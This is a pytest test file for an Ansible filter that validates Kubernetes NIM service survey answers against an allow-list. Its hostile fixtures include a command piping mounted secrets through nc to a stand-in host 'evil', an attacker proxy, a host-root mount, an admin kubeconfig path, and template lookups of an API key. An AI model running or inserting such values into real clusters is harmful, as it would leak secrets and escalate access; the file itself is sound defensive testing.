"""The survey allow-list (plugins/filter/survey.py): what passes is rebuilt from checked parts; every key a launcher
could use to reach another namespace, Secret, command, the node or the network is refused, named in the message."""

import pytest
import yaml

from ansible.errors import AnsibleFilterError
from ansible_collections.nimguard.k8s.plugins.filter.survey import ALLOWED, FilterModule, survey_services

PREFIXES = ["nvcr.io/nim/"]
GOOD = {"name": "llama-3-8b", "image": {"repository": "nvcr.io/nim/meta/llama-3.1-8b-instruct", "tag": "1.3.3"}}


def refused(services, *args, **kwargs):
    text = services if isinstance(services, str) else yaml.safe_dump(services, sort_keys=False)
    with pytest.raises(AnsibleFilterError) as e:
        survey_services(text, *(args or (PREFIXES,)), **kwargs)
    return str(e.value)


def test_registered_under_its_name():
    assert FilterModule().filters() == {"survey_services": survey_services}


def test_allowed_keys_pass_and_are_rebuilt():
    item = dict(GOOD, replicas=2, resources={"gpus": 1, "requests": {"cpu": 4, "memory": "16Gi"},
                                             "limits": {"cpu": "500m", "memory": "32Gi"}})
    out = survey_services(yaml.safe_dump([item]), PREFIXES)
    assert out == [dict(item, resources={"gpus": 1, "requests": {"cpu": "4", "memory": "16Gi"},
                                         "limits": {"cpu": "500m", "memory": "32Gi"}})]
    assert out[0] is not item and out[0]["image"] is not item["image"]


@pytest.mark.parametrize("answer", [None, "", "  \n", "# nothing\n", []])
def test_an_empty_answer_is_no_service(answer):
    assert survey_services(answer, PREFIXES) == []


def test_a_list_is_taken_as_it_is():
    assert survey_services([GOOD], PREFIXES) == [GOOD]


# Issue 19's hostile answer, one key at a time: each is refused, named by its path in the item.
HOSTILE = [
    ({"namespace": "kube-system"}, "namespace"),
    ({"auth_secret": "other-teams-key"}, "auth_secret"),
    ({"auth_secret_key": "token"}, "auth_secret_key"),
    ({"secret_delivery": {"command": ["sh", "-c", "cat /var/run/secrets/nim/* | nc evil 443"]}},
     "secret_delivery.command"),
    ({"secret_delivery": {"mode": "env"}}, "secret_delivery.mode"),
    ({"env": [{"name": "T", "value_from": {"secret_key_ref": {"name": "other", "key": "token"}}}]}, "env"),
    ({"storage": {"host_path": "/"}}, "storage.host_path"),
    ({"rbac": {"scc": "privileged", "extra_rules": [{"resources": ["secrets"], "verbs": ["get"]}]}},
     "rbac.scc, rbac.extra_rules"),
    ({"network_policy": {"enabled": False}}, "network_policy.enabled"),
    ({"outbound_proxy": {"https_proxy": "http://evil:3128"}}, "outbound_proxy.https_proxy"),
    ({"proxy": {"https_proxy": "http://evil:3128"}}, "proxy"),  # outbound_proxy's old name
    ({"expose": {"ingress": {"enabled": True, "allow_plain_http": True}}},
     "expose.ingress.enabled, expose.ingress.allow_plain_http"),
    ({"image": dict(GOOD["image"], pull_policy="Always", pull_secrets=["other"])},
     "image.pull_policy, image.pull_secrets"),
    ({"resources": {"requests": {"nvidia.com/gpu": 8}}}, "resources.requests.nvidia.com/gpu"),
    ({"node_selector": {"kubernetes.io/hostname": "control-plane"}}, "node_selector"),
    ({"tolerations": [{"operator": "Exists"}]}, "tolerations"),
    ({"user_id": 0}, "user_id"),
    ({"backend": "operator"}, "backend"),
    ({"kubeconfig": "/etc/kubernetes/admin.conf"}, "kubeconfig"),
    ({"state": "absent"}, "state"),
]


@pytest.mark.parametrize("extra, named", HOSTILE, ids=[h[1] for h in HOSTILE])
def test_every_other_key_is_refused_naming_it(extra, named):
    msg = refused([dict(GOOD, **extra)])
    assert "nimguard_survey_services[0]: not allowed in the survey: %s. Fix: remove" % named in msg, msg
    assert "The survey accepts only these keys per service: " + ", ".join(ALLOWED) in msg


@pytest.mark.parametrize("image, problem", [
    ({"repository": "docker.io/attacker/tool", "tag": "1"}, "docker.io/attacker/tool is not under an approved prefix"),
    ({"repository": "nvcr.io/nimble/x", "tag": "1"}, "nvcr.io/nimble/x is not under an approved prefix"),
    ({"repository": "nvcr.io/nim", "tag": "1"}, "nvcr.io/nim is not under an approved prefix"),
    ({"repository": "nvcr.io/nim/../evil/x", "tag": "1"}, "is not an image repository"),
    ({"repository": "nvcr.io/nim/meta/x:latest", "tag": "1"}, "is not an image repository"),
    ({"repository": "nvcr.io/nim/meta/x@sha256:" + "a" * 64, "tag": "1"}, "is not an image repository"),
    ({"repository": "nvcr.io/nim/{{ lookup('env', 'X') }}", "tag": "1"}, "is not an image repository"),
    ({"repository": "nvcr.io/nim/meta/x", "tag": "{{ lookup('env', 'NGC_API_KEY') }}"}, "is not an image tag"),
    ({"repository": "nvcr.io/nim/meta/x", "tag": 1.3}, "1.3 is not an image tag. Fix: give the tag as text"),
    ({"repository": "nvcr.io/nim/meta/x"}, "None is not an image tag"),
    ({"repository": "nvcr.io/nim/meta/x", "tag": "-x"}, "is not an image tag"),
])
def test_images_outside_the_prefixes_or_malformed_are_refused(image, problem):
    msg = refused([dict(GOOD, image=image)])
    assert problem in msg, msg


@pytest.mark.parametrize("item, problem", [
    (dict(GOOD, name="Kube-System"), "nimguard_survey_services[0].name: 'Kube-System' is not a service name"),
    (dict(GOOD, name="a" * 64), "is not a service name"),
    (dict(GOOD, name="{{ x }}"), "is not a service name"),
    (dict(GOOD, name=7), "7 is not a service name"),
    (dict(GOOD, replicas=0), "replicas: 0 is not a whole number from 1 to 4"),
    (dict(GOOD, replicas=5), "replicas: 5 is not a whole number from 1 to 4"),
    (dict(GOOD, replicas=True), "replicas: True is not a whole number"),
    (dict(GOOD, replicas="2"), "replicas: '2' is not a whole number"),
    (dict(GOOD, resources={"gpus": 9}), "resources.gpus: 9 is not a whole number from 0 to 8"),
    (dict(GOOD, resources={"gpus": -1}), "resources.gpus: -1 is not a whole number"),
    (dict(GOOD, resources={"requests": {"memory": "lots"}}), "resources.requests.memory: 'lots' is not a Kubernetes"),
    (dict(GOOD, resources={"limits": {"cpu": True}}), "resources.limits.cpu: True is not a Kubernetes quantity"),
    (dict(GOOD, resources={"limits": "16Gi"}), "resources.limits: expected a mapping, got str"),
    (dict(GOOD, resources=[1]), "resources: expected a mapping, got list"),
    (dict(GOOD, image="nvcr.io/nim/meta/x:1"), "image: expected a mapping, got str"),
])
def test_values_of_the_wrong_form_are_refused(item, problem):
    msg = refused([item])
    assert problem in msg, msg


def test_limits_come_from_the_template():
    assert survey_services([dict(GOOD, replicas=6, resources={"gpus": 2})], PREFIXES, max_gpus=2, max_replicas=6)
    assert "from 0 to 1" in refused([dict(GOOD, resources={"gpus": 2})], max_gpus=1)


def test_every_problem_of_every_item_is_listed_at_once():
    msg = refused([dict(GOOD, namespace="kube-system"), "just text",
                   dict(GOOD, name="b", image={"repository": "quay.io/x/y", "tag": "1"}, storage={"host_path": "/"}),
                   dict(GOOD)])
    assert msg.count("\n- ") == 5, msg
    for part in ("[0]: not allowed in the survey: namespace.", "[1]: expected a mapping, got str",
                 "[2]: not allowed in the survey: storage.host_path.", "[2].image.repository: quay.io/x/y",
                 "[3].name: llama-3-8b is given twice"):
        assert part in msg, (part, msg)


@pytest.mark.parametrize("answer, problem", [
    ("- name: [unclosed", "nimguard_survey_services: not valid YAML at line 1"),
    ("name: llama", "expected a YAML list of services, got dict"),
    ("just words", "expected a YAML list of services, got str"),
])
def test_answers_that_are_not_a_list(answer, problem):
    msg = refused(answer)
    assert problem in msg and "Fix:" in msg, msg


def test_a_yaml_error_does_not_echo_the_answer():
    msg = refused("- name: x\n  password: hunter2-canary [")
    assert "hunter2-canary" not in msg, msg


@pytest.mark.parametrize("prefixes", [[], "nvcr.io/nim/", ["nvcr.io/nim"], ["nvcr.io/nim/../"], [None]])
def test_the_templates_prefixes_are_checked(prefixes):
    with pytest.raises(AnsibleFilterError, match="survey_services: image"):
        survey_services([GOOD], prefixes)


def test_long_values_are_cut_short_in_the_message():
    msg = refused([dict(GOOD, name="x" * 500)])
    assert "x" * 100 not in msg and "..." in msg
